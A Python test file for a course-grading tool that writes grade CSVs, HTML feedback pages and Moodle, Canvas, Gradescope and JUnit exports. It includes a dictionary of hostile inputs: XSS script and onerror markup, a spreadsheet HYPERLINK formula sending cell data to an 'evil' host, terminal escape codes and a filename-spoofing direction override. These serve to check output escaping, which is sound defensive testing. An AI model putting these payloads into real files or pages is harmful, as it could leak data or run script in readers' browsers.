"""Reports on a class: what they count, and that nothing in a result can do harm."""

import csv
import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest
from graded import FLAT, class_of_30, result, save, task
from html_words import Words
from hypothesis import example, given, settings
from hypothesis import strategies as st

from coursetools.cli import WORDS, main
from coursetools.downloads import MADE_BY_A_PROGRAM
from coursetools.errors import UnusableInput
from coursetools.filenames import distinct, portable
from coursetools.handed_in import (
    NAME,
    NOTHING_WRITTEN,
    REPORTED,
    HandedIn,
    HandedInFile,
    write_handed_in,
)
from coursetools.import_policy import IMPORTS_COURSE
from coursetools.report import WRITERS, write_reports
from coursetools.report.cells import cell
from coursetools.report.gradebooks import GRADES
from coursetools.report.reading import NOTHING_GRADED, read_results
from coursetools.report.statistics import count_tasks
from coursetools.result import cut, read_result
from coursetools.roster import Person
from coursetools.wording import shown

HOSTILE = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "quotes": "\"'><b onclick='x'>",
    "entity": "&lt;script&gt; & co",
    "formula": '=HYPERLINK("http://evil/?"&A1,"click")',
    "terminal": "\x1b[2J\x1b]0;owned\x07",
    "direction": "abc\u202etxt.exe",
    "surrogate": "half \ud800 a pair",
    "template": "{{ 7 * 7 }}{% raw %}",
    "csv": 'a","b\r\n=1+1,',
    "null": "a\x00b\ufffe",
}


def table(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def files_in(folder: Path) -> Iterator[Path]:
    return (path for path in folder.rglob("*") if path.is_file())


# What is counted


def test_grades_have_a_row_for_each_student_and_task(tmp_path):
    save(
        tmp_path,
        "ana",
        result(task(), task("attention", "fail", ["no-scale", "q-k-swapped"], "Why?")),
    )
    save(tmp_path, "ben", result(task(status="timeout", message="Slow.")))
    (path,) = write_reports(tmp_path, ["csv"])
    assert path == tmp_path / "report" / "grades.csv"
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # or Excel would not take it for UTF-8
    head, *rows = table(path)
    assert head == list(GRADES)
    assert [row[:6] for row in rows] == [
        ["ana", "03_softmax_axis", "softmax", "pass", "2", "2"],
        ["ana", "03_softmax_axis", "attention", "fail", "0", "2"],
        ["ben", "03_softmax_axis", "softmax", "timeout", "0", "2"],
    ]
    assert rows[1][6:] == ["no-scale q-k-swapped", "Why?", "", "", ""]


def test_the_class_page_says_7_of_30_scale_by_d_model(tmp_path):
    write_reports(class_of_30(tmp_path))
    said = Words(tmp_path / "report" / "class.html").text
    assert "7 of 30 scale by sqrt d_model in multi_head_attention" in said
    assert FLAT in said
    assert "23 of 30 right" in said
    assert "30 of 30 right" in said
    assert "right not right yet ran out of time average points" in said
    assert "05_multi_head multi_head_attention 23 7 0 1.53 of 2" in said


def test_isolation_is_said_for_the_class(tmp_path):
    write_reports(class_of_30(tmp_path))
    said = Words(tmp_path / "report" / "class.html").text
    assert "Isolation of 30 of 31 notebooks: bwrap" in said
    assert "Isolation of 1 of 31 notebooks: none" in said
    assert "answers ran with the rights of the person who graded them" in said
    assert "Isolation" not in Words(tmp_path / "report" / "students" / "student 01.html").text


def test_two_mistakes_count_for_both_and_their_words_for_neither(tmp_path):
    both = task(status="fail", mistakes=["no-scale", "q-k-swapped"], message="Two slips.")
    save(tmp_path, "ana", result(both))
    write_reports(tmp_path, ["html"])
    said = Words(tmp_path / "report" / "class.html").text
    assert "1 of 1 no scale in" in said
    assert "1 of 1 q k swapped in" in said
    assert "Two slips." not in said


def test_the_most_frequent_mistake_of_a_task_comes_first(tmp_path):
    for number, slug in enumerate(["a-slip", "the-usual", "the-usual", "z-slip"]):
        save(tmp_path, f"s{number}", result(task(status="fail", mistakes=[slug])))
    results, _ = read_results(tmp_path)
    (counted,) = count_tasks(results)
    found = [(mistake.slug, mistake.count, mistake.of) for mistake in counted.mistakes]
    assert found == [("the-usual", 2, 4), ("a-slip", 1, 4), ("z-slip", 1, 4)]


def test_what_is_wrong_without_a_name_is_counted_too(tmp_path):
    save(tmp_path, "ana", result(task(status="fail", message="On which input?")))
    save(tmp_path, "ben", result(task(status="error", message="It raised.")))
    write_reports(tmp_path, ["html"])
    assert (
        "1 of 2 wrong in a way that has no name" in Words(tmp_path / "report" / "class.html").text
    )


def test_a_student_page_has_the_words_of_the_check_its_question_and_the_notes(tmp_path):
    wrong = task(
        "attention", "fail", ["no-scale"], "The numbers differ. No root. What is the spread?"
    )
    save(tmp_path, "Ana Núñez", result(task(), wrong, notes=["cell a was edited"]))
    write_reports(tmp_path, ["html"])
    path = tmp_path / "report" / "students" / "Ana Núñez.html"
    said = Words(path).text
    assert "✗ attention : not right yet 0 of 2 points" in said.replace(":", " :")
    assert "The numbers differ. No root. What is the spread?" in said
    assert '<p class="question">What is the spread?</p>' in path.read_text(encoding="utf-8")
    assert "✓ Each row sums to 1. ✓ Your arguments are left as they were." in said
    assert "cell a was edited" in said
    assert "Notes on 1 of 1 notebooks" in (of_class := Words(path.parents[1] / "class.html").text)
    assert f"{NOTEBOOK}: cell a was edited: Ana Núñez" in of_class
    assert "2 of 4 points" in said


@pytest.mark.parametrize("status", WORDS)
def test_every_status_has_its_words_everywhere(tmp_path, status):
    save(tmp_path, "ana", result(task(status=status, message="M."), task("attention")))
    write_reports(tmp_path, WRITERS)
    report = tmp_path / "report"
    assert f": {WORDS[status]}" in Words(report / "students" / "ana.html").text
    assert WORDS[status] in Words(report / "class.html").text
    assert table(report / "grades.csv")[1][3] == status


def test_junit_tells_failures_errors_and_what_was_skipped(tmp_path):
    statuses = [
        "pass",
        "fail",
        "error",
        "timeout",
        "dead",
        "starved",
        "not_attempted",
        "not_reached",
    ]
    tasks = [task(f"t{number}", status, message="M.") for number, status in enumerate(statuses)]
    save(tmp_path, "ana", result(*tasks, notes=["a note"]))
    (path,) = write_reports(tmp_path, ["junit"])
    root = ElementTree.parse(path).getroot()
    counts = {key: root.get(key) for key in ("tests", "failures", "errors", "skipped")}
    assert counts == {"tests": "8", "failures": "1", "errors": "4", "skipped": "2"}
    (suite,) = root
    assert suite.get("name") == "ana/03_softmax_axis"
    kinds = [next((found.tag for found in case), "pass") for case in suite.findall("testcase")]
    assert kinds == ["pass", "failure", "error", "error", "error", "error", "skipped", "skipped"]
    assert suite.find("properties/property[@name='isolation']").get("value") == "bwrap"
    assert suite.findtext("system-out") == "a note"


def test_moodle_gets_points_and_feedback_for_each_notebook(tmp_path):
    (path,) = write_reports(class_of_30(tmp_path), ["moodle"])
    head, first, second, *_ = table(path)
    assert head == ["Student", "05_multi_head", "05_multi_head feedback"]
    assert first == ["student 00", "2", f"multi_head_attention: {FLAT}"]
    assert second[:2] == ["student 01", "2"]


def test_moodle_gets_a_worksheet_for_each_notebook_where_participants_are_known(tmp_path):
    slip = task("attention", "fail", ["no-scale"], "No root. What is the spread?")
    save(tmp_path, "Ana Núñez_1234", result(task(), slip))
    save(tmp_path, "ben@example.org", result(task()))
    save(tmp_path, "cy_77", result(task(), notebook="04_causal_mask"))
    write_reports(tmp_path, ["moodle"])
    head, *rows = table(tmp_path / "report" / "moodle-03_softmax_axis.csv")
    assert {"Identifier", "Grade", "Last modified (grade)", "Feedback comments"} <= set(head)
    feedback = "attention: No root. What is the spread?"
    assert rows == [["Participant 1234", "Ana Núñez", "2", "4", "", feedback]]
    _, row = table(tmp_path / "report" / "moodle-04_causal_mask.csv")
    assert row == ["Participant 77", "cy", "2", "2", "", "All your code is right."]


def test_canvas_gets_the_points_possible_and_the_number_that_its_downloads_carry(tmp_path):
    save(tmp_path, "doejane_1234", result(task(), task("attention")))
    save(tmp_path, "bob@example.org", result(task(), notebook="04_causal_mask"))
    (path,) = write_reports(tmp_path, ["canvas"])
    assert path.read_bytes().startswith(b'"Student"')
    assert table(path) == [
        [
            "Student",
            "ID",
            "SIS User ID",
            "SIS Login ID",
            "Section",
            "03_softmax_axis",
            "04_causal_mask",
        ],
        ["Points Possible", "", "", "", "", "4", "2"],
        ["bob@example.org", "", "", "bob@example.org", "", "", "2"],
        ["doejane", "1234", "", "", "", "4", ""],
    ]


def test_gradescope_gets_a_file_for_each_student(tmp_path):
    (folder,) = write_reports(class_of_30(tmp_path), ["gradescope"])
    assert len(list(folder.iterdir())) == 30
    content = json.loads((folder / "student 00" / "results.json").read_text())
    assert content["score"] == 2
    assert [test["status"] for test in content["tests"]] == ["failed", "passed", "failed"]
    assert content["tests"][2]["tags"] == ["scale-by-sqrt-d_model"]
    assert all(test.keys() >= {"name", "score", "max_score", "output"} for test in content["tests"])


def test_the_file_that_is_called_after_its_exercise_counts(tmp_path):
    save(tmp_path, "ana", result(task(status="fail")), name="01_copy")
    save(tmp_path, "ana", result(task()))
    complaints = []
    (path,) = write_reports(tmp_path, ["csv"], complaints.append)
    assert [row[3] for row in table(path)] == ["status", "pass"]
    (line,) = complaints
    assert "01_copy.json: left out, because it is a second result" in line


def test_what_was_graded_under_an_older_name_is_not_counted_twice(tmp_path):
    save(tmp_path, "ana", result(task(status="fail"), notebook="10_training"), name="10_training")
    save(tmp_path, "ana", result(task(), notebook="11_training"), name="11_training")
    save(tmp_path, "bo", result(task(), notebook="10_training"), name="10_training")
    read = read_results(tmp_path)[0]
    assert [(result.student, result.notebook, result.points) for result in read] == [
        ("ana", "11_training", 2),
        ("bo", "11_training", 2),
    ]


def test_grades_say_what_was_late_and_another_table_what_became_of_each_file(tmp_path):
    save(tmp_path, "ana", result(task()))
    hand_in(tmp_path)
    write_reports(tmp_path, WRITERS)
    report = tmp_path / "report"
    assert [row[8] for row in table(report / "grades.csv")] == ["late", "yes"]
    assert [row[:5] for row in table(report / "handed_in.csv")[3:]] == [
        ["ana", f"{IN_MOODLE}/x.ipynb", NOTEBOOK, "renamed, graded", "yes"],
        ["bo", "bo_8_assignsubmission_file/essay.pdf", "", "a PDF", ""],
        ["cy", "", NOTEBOOK, "missing", ""],
        ["bo", "", NOTEBOOK, "missing, or in a file that could not be graded", ""],
    ]
    page = Words(report / "class.html").text
    assert "Not graded bo: essay.pdf (a PDF)" in page
    assert "Handed in nothing cy: no file" in page
    assert f"Missing: {NOTEBOOK} bo (see above)" in page
    assert f"Late ana: {NOTEBOOK}" in page
    assert "Files that do not say whose they are y.pdf handed_in.csv" in page
    assert "essay.pdf: a PDF" in Words(report / "students" / "bo.html").text
    assert "Handed in late" in Words(report / "students" / "ana.html").text
    assert '"late"' in (report / "junit.xml").read_text()
    assert table(report / "moodle.csv")[1][-1].startswith("Handed in late.")
    assert (
        "late" in json.loads((report / "gradescope" / "ana" / "results.json").read_text())["output"]
    )


NOTEBOOK = "03_softmax_axis"
IN_MOODLE = "Ana Núñez_1234_assignsubmission_file"
PEOPLE = [Person("Ana Núñez", "m1", "ana@example.org", "anunez", folder="ana")]
PEOPLE += [Person(name, folder=name) for name in ("cy", "bo")]


def hand_in(out: Path, **more: str) -> None:
    """What `grade` lists: a notebook from Ana, a PDF from Bo, nothing from Cy."""
    graded = HandedInFile(
        "ana", f"{IN_MOODLE}/x.ipynb", "renamed, graded", NOTEBOOK, counts=True, late=True
    )
    files = [graded, HandedInFile("bo", "bo_8_assignsubmission_file/essay.pdf", "a PDF")]
    files += [HandedInFile("", "__MACOSX/x", MADE_BY_A_PROGRAM), HandedInFile("", "y.pdf", "a PDF")]
    for student, path in more.items():
        files.append(HandedInFile(student, path, "graded", NOTEBOOK, counts=True))
    write_handed_in(HandedIn(files, PEOPLE), out / REPORTED)


def test_moodle_gets_the_number_of_the_assignment_and_what_its_gradebook_knows(tmp_path):
    save(tmp_path, "ana", result(task()))
    hand_in(tmp_path)
    write_reports(tmp_path, ["moodle", "canvas"])
    _, row = table(tmp_path / "report" / f"moodle-{NOTEBOOK}.csv")
    assert row[:3] == ["Participant 1234", "Ana Núñez", "2"]
    head, row = table(tmp_path / "report" / "moodle.csv")
    assert head[:4] == ["Student", "Username", "ID number", "Email address"]
    assert row[:5] == ["ana", "anunez", "m1", "ana@example.org", "2"]
    row = table(tmp_path / "report" / "canvas.csv")[2]
    assert row[:4] == ["Ana Núñez", "", "", "anunez"]  # Moodle's number would be another student's


def test_feedback_zips_have_the_names_that_moodle_and_canvas_look_for(tmp_path):
    for student in ("ana", "doejane_7"):
        save(tmp_path, student, result(task(message="Which axis?", status="fail")))
    hand_in(tmp_path, doejane_7=f"doejane_7_98_{NOTEBOOK}.ipynb")
    write_reports(tmp_path, ["moodle", "canvas"])
    for system, name in {
        "moodle": f"Ana Núñez_1234_assignfeedback_file/{NOTEBOOK}.html",
        "canvas": f"doejane_7_98_{NOTEBOOK}.html",
    }.items():
        with ZipFile(tmp_path / "report" / f"{system}-feedback-{NOTEBOOK}.zip") as archive:
            assert archive.namelist() == [name]
            assert "Which axis?" in archive.read(name).decode()


# What counts


def hub_class(out: Path) -> Path:
    """A folder of exercises each: two wrote in lesson 3, one in lesson 1, Jun nowhere; Paul has none."""
    blank = task(status="not_attempted", message="Write it in the cell above.")
    for student in ("ana", "ben", "jun", "mia"):
        for notebook in ("01_dot_product", NOTEBOOK, "16_capstone"):
            done = {"mia": "01_dot_product", "jun": ""}.get(student, NOTEBOOK) == notebook
            save(out, student, result(task() if done else blank, notebook=notebook))
    for student in ("dora", "eve", "finn"):
        save(out, student, result(task()))
    files = [
        HandedInFile(student, f"{notebook}.ipynb", "graded", notebook, counts=True)
        for student in ("ana", "ben", "jun", "mia")
        for notebook in ("01_dot_product", NOTEBOOK, "16_capstone")
    ]
    write_handed_in(HandedIn(files, [Person("Paul", folder="paul")]), out / REPORTED)
    return out


def test_a_notebook_in_which_nothing_is_written_is_not_handed_in(tmp_path, capsys):
    write_reports(hub_class(tmp_path), WRITERS)
    report = tmp_path / "report"
    page = Words(report / "class.html").text
    assert "6 students handed in 6 notebooks graded 100 % of the points they could get" in page
    assert f"In {NOTEBOOK}, no two students made the same mistake." in page
    assert "16_capstone" not in page[page.index("Which tasks") :]
    assert "16_capstone" not in (report / "moodle.csv").read_text()
    assert ["mia", "16_capstone.ipynb", "16_capstone", NOTHING_WRITTEN] in [
        row[:4] for row in table(report / "handed_in.csv")
    ]
    assert "Notebooks in which nothing is written, which no report counts: 9" in (
        capsys.readouterr().err
    )


def test_who_handed_in_nothing_is_listed_on_the_page_and_on_the_terminal(tmp_path, capsys):
    write_reports(hub_class(tmp_path), ["html"])
    everywhere = f"nothing is written in 01_dot_product, {NOTEBOOK}, 16_capstone"
    assert (
        f"coursetools: Handed in nothing: jun ({everywhere}); paul (no file)"
        in capsys.readouterr().err
    )
    page = Words(tmp_path / "report" / "class.html").text
    assert f"Handed in nothing jun: {everywhere} paul: no file Handed in another exercise" in page


def test_an_exercise_of_one_student_is_missing_from_nobody_and_in_no_gradebook(tmp_path):
    write_reports(hub_class(tmp_path), WRITERS)
    page = Words(tmp_path / "report" / "class.html").text
    assert "Handed in another exercise mia: 01_dot_product" in page
    assert "01_dot_product" not in page[page.index("Which tasks") : page.index("Students Points")]
    assert "Missing: 01_dot_product" not in page
    for name in ("moodle.csv", "canvas.csv"):
        assert "01_dot_product" not in (tmp_path / "report" / name).read_text()
        assert "mia" not in (tmp_path / "report" / name).read_text()
    rows = [row[:4] for row in table(tmp_path / "report" / "handed_in.csv") if not row[1]]
    assert rows == [["paul", "", NOTEBOOK, "missing"]]


def test_an_exercise_counts_if_a_third_as_many_handed_it_in(tmp_path):
    for number in range(6):
        save(tmp_path, f"s{number}", result(task()))
    for number, notebook in ((0, "04_causal_mask"), (1, "04_causal_mask"), (2, "05_multi_head")):
        save(tmp_path, f"s{number}", result(task(), notebook=notebook))
    write_handed_in(HandedIn([], [Person("s5", folder="s5")]), tmp_path / REPORTED)
    write_reports(tmp_path, ["html", "moodle"])
    page = Words(tmp_path / "report" / "class.html").text
    assert "Missing: 04_causal_mask s5" in page
    assert "Missing: 05_multi_head" not in page
    assert [name for name in table(tmp_path / "report" / "moodle.csv")[0] if "feed" in name] == [
        f"{NOTEBOOK} feedback",
        "04_causal_mask feedback",
    ]


def test_who_left_one_of_several_exercises_as_it_was_is_listed_there(tmp_path):
    for student in ("ana", "ben"):
        save(tmp_path, student, result(task()))
        blank = student == "ana"
        heads = task("attention", "not_attempted") if blank else task("attention")
        save(tmp_path, student, result(heads, notebook="05_multi_head"))
    write_reports(tmp_path, ["html"])
    page = Words(tmp_path / "report" / "class.html").text
    assert "Nothing is written: 05_multi_head ana To see who is missing" in page
    assert "ana 2 of 2 nothing written 2 of 4" in page
    assert "ben 2 of 2 2 of 2 4 of 4" in page


@pytest.mark.parametrize("written", [{"writing": ["Shift the keys."]}, {}])
def test_words_or_a_comment_are_something(tmp_path, written):
    save(tmp_path, "ana", result(task(status="not_attempted"), **written))
    if not written:
        (tmp_path / "overrides.csv").write_text("student,task,comment\nana,softmax,Oral exam\n")
    write_reports(tmp_path, ["html"])
    assert "1 notebook graded" in Words(tmp_path / "report" / "class.html").text


def test_where_nobody_wrote_anything_the_page_says_so(tmp_path):
    save(tmp_path, "ana", result(task(status="not_attempted")))
    write_reports(tmp_path, WRITERS)
    page = Words(tmp_path / "report" / "class.html").text
    assert "0 students handed in" in page
    assert "Nobody has written an answer yet." in page


def test_the_total_is_of_all_that_counts_and_everybody_has_a_row(tmp_path):
    write_reports(hub_class(tmp_path), ["html"])
    page = Words(tmp_path / "report" / "class.html").text
    rows = page[page.index("Points of each student") :]
    assert f"a third of the class handed in: {NOTEBOOK}." in rows
    assert "ana nothing written 2 of 2 2 of 2 ben" in rows
    assert "mia 2 of 2 nothing written 0 of 2 paul 0 of 2 Which mistakes" in rows
    mia = Words(tmp_path / "report" / "students" / "mia.html").text
    assert f"0 of 2 points in {NOTEBOOK}" in mia
    assert f"Nothing to grade: {NOTEBOOK}" in mia
    assert "Not counted in these points: 01_dot_product" in mia
    assert f"16_capstone.ipynb: {NOTHING_WRITTEN}" in mia


def test_a_mistake_in_two_tasks_counts_once_for_each_student(tmp_path):
    slip = ("fail", ["no-scale"], "The scores are not divided. By what?")
    save(tmp_path, "ben", result(task("attention_weights", *slip), task("attention", *slip)))
    save(tmp_path, "dmitri", result(task("attention_weights"), task("attention", *slip)))
    save(tmp_path, "eva", result(task("attention_weights", "error"), task("attention")))
    write_reports(tmp_path, ["html"])
    page = Words(tmp_path / "report" / "class.html")
    topics = page.text[page.text.index("For the next lecture") : page.text.index("Missing, late")]
    assert "2 of 3 in attention_weights and attention: The scores" in topics
    assert "2 students ben dmitri" in topics
    assert topics.count("of 3 in") == 1
    assert ("href", "students/ben.html#task-attention_weights") in page.attributes
    assert ("href", "students/dmitri.html#task-attention") in page.attributes


# Decisions by a person


def overrides(out: Path, *rows: str) -> list[str]:
    """Write overrides.csv and all reports; return the complaints."""
    (out / "overrides.csv").write_text(
        "\n".join(["student,task,points,comment", *rows]), encoding="utf-8"
    )
    complaints: list[str] = []
    write_reports(out, WRITERS, complaints.append)
    return complaints


def test_points_and_comments_by_hand_are_in_every_report(tmp_path):
    save(tmp_path, "ana_7", result(task(status="fail", message="No."), task("attention")))
    assert (
        overrides(
            tmp_path, 'ana_7,softmax,1.5,"Right idea, wrong axis"', "ana_7,attention,,Elegant!"
        )
        == []
    )
    report = tmp_path / "report"
    assert [[row[4], *row[9:]] for row in table(report / "grades.csv")[1:]] == [
        ["1.5", "yes", "Right idea, wrong axis"],
        ["2", "", "Elegant!"],
    ]
    assert table(report / "canvas.csv")[2][5] == "3.5"
    said = "softmax: 1.5 of 2 points, given by hand. Right idea, wrong axis"
    for name in ("moodle.csv", "moodle-03_softmax_axis.csv"):
        assert said in " ".join(table(report / name)[1])
        assert "3.5" in table(report / name)[1]
    page = Words(report / "students" / "ana_7.html").text
    assert "3.5 of 4 points" in page
    assert "From your teachers: 1.5 of 2 points, given by hand. Right idea, wrong axis" in page
    assert "From your teachers: Elegant!" in page
    assert "3.5 of 4" in Words(report / "class.html").text
    assert said in (report / "junit.xml").read_text()
    content = json.loads((report / "gradescope" / "ana_7" / "results.json").read_text())
    assert content["score"] == 3.5
    assert "Right idea" in content["tests"][0]["output"]


def test_a_discussion_and_a_comment_on_the_notebook_are_in_every_report(tmp_path):
    for student in ("ana_7", "bo_8"):
        save(tmp_path, student, result(task()))
    rows = f"ana_7,{NOTEBOOK},,Go on!", "ana_7,discussion,5,Both mistakes", ",discussion,6,"
    assert overrides(tmp_path, *rows) == []
    report, marked = tmp_path / "report", "5 of 6 points, given by hand. Both mistakes"
    assert [[*row[2:6], *row[9:]] for row in table(report / "grades.csv")[2::2]] == [
        [NOTEBOOK, "written", "0", "0", "", "Go on!"],
        ["softmax", "pass", "2", "2", "", ""],
    ]
    assert table(report / "grades.csv")[3][2:6] == ["discussion", "written", "5", "6"]
    told = f"All your code is right. · {NOTEBOOK}: Go on! · discussion: {marked}"
    assert table(report / "moodle.csv")[1] == ["ana_7", "7", told]
    worksheet = table(report / f"moodle-{NOTEBOOK}.csv")[1]
    assert worksheet == ["Participant 7", "ana", "7", "8", "", told]
    assert [row[5] for row in table(report / "canvas.csv")] == [NOTEBOOK, "8", "7", "2"]
    content = json.loads((report / "gradescope" / "ana_7" / "results.json").read_text())
    assert (content["score"], content["tests"][2]["output"]) == (7, marked)
    assert "status" not in content["tests"][2]
    assert f"discussion: {marked}" in (report / "junit.xml").read_text()
    assert "ana_7 7 of 8 7 of 8 bo_8 2 of 8 2 of 8" in Words(report / "class.html").text
    words = f"{NOTEBOOK} From your teachers: Go on! discussion 5 of 6 points From your teachers: {marked}"
    assert words in Words(report / "students" / "ana_7.html").text
    assert "From your teachers: not marked yet" in Words(report / "students" / "bo_8.html").text
    with ZipFile(report / f"moodle-feedback-{NOTEBOOK}.zip") as archive:
        assert marked in archive.read(archive.namelist()[0]).decode()


def test_where_two_notebooks_have_a_discussion_a_row_says_which(tmp_path):
    tasks = [f"{name}:discussion" for name in (NOTEBOOK, "05_multi_head")]
    for name in (NOTEBOOK, "05_multi_head"):
        save(tmp_path, "ana", result(task(), notebook=name))
    rows = [f",{name},6," for name in tasks]
    (line,) = overrides(tmp_path, *rows, "ana,discussion,5,", f"ana,{tasks[1]},4,")
    assert line.endswith(f"line 4: write {' or '.join(tasks)}.")
    assert table(tmp_path / "report" / "canvas.csv")[2][5:] == ["2", "6"]


def test_no_points_can_be_given_by_hand_too(tmp_path):
    save(tmp_path, "ana", result(task()))
    assert overrides(tmp_path, "ana,softmax,0,Copied") == []
    assert table(tmp_path / "report" / "grades.csv")[1][4] == "0"


def test_who_got_some_points_by_hand_still_reads_what_is_wrong(tmp_path):
    save(tmp_path, "ana", result(task(status="fail", message="The axis is another.")))
    assert overrides(tmp_path, "ana,softmax,1,") == []
    feedback = " ".join(table(tmp_path / "report" / "moodle.csv")[1])
    assert "The axis is another." in feedback
    assert "All your code is right." not in feedback


def test_who_handed_in_a_pdf_can_be_given_points(tmp_path):
    save(tmp_path, "ana", result(task(), task("attention")))
    hand_in(tmp_path)
    assert overrides(tmp_path, "bo,softmax,1,Read on paper", "cy,softmax,1,Oral exam") == []
    rows = [row[:6] for row in table(tmp_path / "report" / "grades.csv") if row[0] == "bo"]
    assert rows == [
        ["bo", NOTEBOOK, "softmax", "not_attempted", "1", "2"],
        ["bo", NOTEBOOK, "attention", "not_attempted", "0", "2"],
    ]
    page = Words(tmp_path / "report" / "class.html").text
    assert "1 of 1 right" in page
    assert "2 students handed in" in page
    own = Words(tmp_path / "report" / "students" / "bo.html").text
    assert own.count(NOTHING_GRADED) == 1
    assert "softmax 1 of 2 points From your teachers: 1 of 2 points, given by hand. Read" in own
    assert "not attempted yet" not in own


@pytest.mark.parametrize(
    ("row", "words"),
    [
        ("cleo,softmax,1,", "line 2: there is no student 'cleo'"),
        ("ana,softmacs,1,", "line 2: there is no task 'softmacs'"),
        ("ana,softmax,much,", "line 2: 'much' is not a number of points"),
        ("ana,softmax,3,", "line 2: 3 points: this task gives 0 to 2"),
        ("ana,softmax,nan,", "line 2: nan points"),
        ("ana,softmax,-1,", "line 2: -1 points"),
        (",softmax,1,", "line 2: name a student: 'softmax' is there already"),
        (",talk,,", "line 2: say how many points 'talk' can give"),
        (
            ",04_causal_mask:talk,6,",
            f"line 2: name a notebook and what you mark, as in {NOTEBOOK}:disc",
        ),
        (f"ana,{NOTEBOOK},3,", f"line 2: '{NOTEBOOK}' takes a comment, but no points"),
        ("ana,softmax,1,\nana,softmax,2,", "line 3: softmax of ana has two rows"),
    ],
)
def test_a_row_that_cannot_be_used_is_said_and_the_others_count(tmp_path, row, words):
    save(tmp_path, "ana", result(task(), task("attention", "fail")))
    (line,) = overrides(tmp_path, row, "ana,attention,1,")
    assert words in line
    assert table(tmp_path / "report" / "grades.csv")[2][4] == "1"


@pytest.mark.parametrize(
    "content",
    [
        "Student;Task;Points;Comment\r\nAna;softmax;0,5;\r\n",
        "\ufeffstudent\ttask\tpoints\nm1\tsoftmax\t0.5\n",
    ],
)
def test_what_a_spreadsheet_makes_of_the_file_is_read(tmp_path, content):
    save(tmp_path, "Ana", result(task()))
    write_handed_in(HandedIn([], [Person("Ana", "m1", folder="Ana")]), tmp_path / REPORTED)
    (tmp_path / "overrides.csv").write_text(content, encoding="utf-8")
    write_reports(tmp_path, ["csv"])
    assert table(tmp_path / "report" / "grades.csv")[1][4] == "0.5"


def test_overrides_without_titles_are_status_2_and_one_line(tmp_path, capsys):
    save(tmp_path, "ana", result(task()))
    (tmp_path / "overrides.csv").write_text("ana,softmax,1\nana,attention,1\n")
    assert main(["report", str(tmp_path), "--format", "csv"]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert "has to name the columns student, task, points, comment" in line


# What to read


def test_the_smallest_example_stands_on_its_own_line_as_code(tmp_path):
    call = "softmax(np.array([0., -1.]))"
    said = f"The numbers differ. The smallest input found that shows it: `{call}` returns [<0>, 1.0]. Why?"
    save(tmp_path, "ana", result(task("softmax", "fail", message=said), task("attention")))
    write_reports(tmp_path, ["html"])
    page = (tmp_path / "report" / "students" / "ana.html").read_text(encoding="utf-8")
    shows = "<p>The smallest input found that shows it:"
    assert f"{shows} <code>{call}</code> returns [&lt;0&gt;, 1.0].</p>" in page


def test_a_lonely_backtick_is_no_code(tmp_path):
    save(tmp_path, "ana", result(task("softmax", "fail", message="It raised: a ` b. Why?")))
    write_reports(tmp_path, ["html"])
    page = (tmp_path / "report" / "students" / "ana.html").read_text(encoding="utf-8")
    assert "<p>It raised: a ` b.</p>" in page


def test_a_student_page_has_what_the_student_wrote(tmp_path):
    answers = {"softmax": "def softmax(x):\n    return x  # <b>mine</b>\n"}
    tasks = task(status="fail"), task("without an answer cell", "not_attempted")
    save(tmp_path, "ana", result(*tasks, answers=answers, writing=["Shift *the* keys"]))
    write_reports(tmp_path, ["html"])
    content = (tmp_path / "report" / "students" / "ana.html").read_text(encoding="utf-8")
    assert "def softmax(x):\n    return x  # &lt;b&gt;mine&lt;/b&gt;" in content
    assert "Shift *the* keys" in content


def test_the_class_page_begins_with_what_to_talk_about_and_leads_to_the_students(tmp_path):
    write_reports(class_of_30(tmp_path))
    for number in range(9):
        error = task("split_heads", "error", message="split_heads(X, 3) raises ValueError.")
        save(tmp_path, f"student {number:02}", result(error, notebook="05_multi_head"))
    write_reports(tmp_path)
    page = Words(tmp_path / "report" / "class.html")
    start, end = page.text.index("For the next lecture"), page.text.index("Which tasks")
    topics = page.text[start:end]
    assert "9 of 30 in split_heads: stops with an error" in topics
    assert "split_heads(X, 3) raises ValueError." in topics
    assert "9 students student 00 student 01" in topics
    assert ("href", "students/student%2008.html#task-split_heads") in page.attributes
    student = Words(tmp_path / "report" / "students" / "student 08.html")
    assert ("id", "task-split_heads") in student.attributes


RAISED = "On 3 keys, it raised ValueError: ... (size 5 is not 4). (called with Q (2,3))."


def class_at_lesson_5(out: Path) -> str:
    """Seven of ten are at lesson 5, where two made a mistake; one is ahead. What to discuss?"""
    slip = task("attention", "fail", ["no-scale"], f"{RAISED} No root. Which spread? And why?")
    for number in range(10):
        save(out, f"s{number}", result(slip, task("softmax", "fail", [f"slip-{number}"])))
    for number in range(7):
        heads = slip if number < 2 else task("attention")
        save(out, f"s{number}", result(heads, notebook="05_multi_head"))
    save(out, "s9", result(slip, notebook="11_training"))
    write_reports(out, ["html"])
    page = Words(out / "report" / "class.html").text
    return page[page.index("For the next lecture") : page.index("Missing, late or unreadable")]


def test_the_next_lecture_is_about_the_lesson_where_the_class_is_then_about_earlier_ones(tmp_path):
    topics = class_at_lesson_5(tmp_path)
    assert "made in 05_multi_head" in topics
    said = "of 7 in attention: No root. Ask: Which spread? And why? no-scale 2 students s0 s1"
    assert f"2 {said}" in topics
    assert topics.index("2 of 7") < topics.index("03_softmax_axis") < topics.index("10 of 10")
    assert "11_training" not in topics
    assert "slip-" not in topics  # each made by only one student


def test_a_file_that_cannot_be_read_is_not_counted_as_a_mistake_in_each_task(tmp_path):
    why = f"{NOTEBOOK}.ipynb: not a notebook. Save it again."
    broken = [task(name, "error", message=why) for name in ("softmax", "attention")]
    save(tmp_path, "ana", result(*broken))
    save(tmp_path, "bo", result(task(), task("attention")))
    hand_in(tmp_path)
    write_reports(tmp_path)
    page = Words(tmp_path / "report" / "class.html").text
    assert f"Cannot be read ana: {why}" in page
    assert "1 of 1 right" in page
    assert "stops with an error" not in page
    assert [why] == [
        row[3] for row in table(tmp_path / "report" / "handed_in.csv") if row[0] == "ana"
    ]
    assert Words(tmp_path / "report" / "students" / "ana.html").text.count(why) == 2


def test_an_answer_that_imports_the_library_is_counted_as_that(tmp_path):
    save(tmp_path, "ana", result(task("softmax", "fail", message=IMPORTS_COURSE)))
    save(tmp_path, "bo", result(task("softmax", "fail", message="No. Which?")))
    write_reports(tmp_path, ["html"])
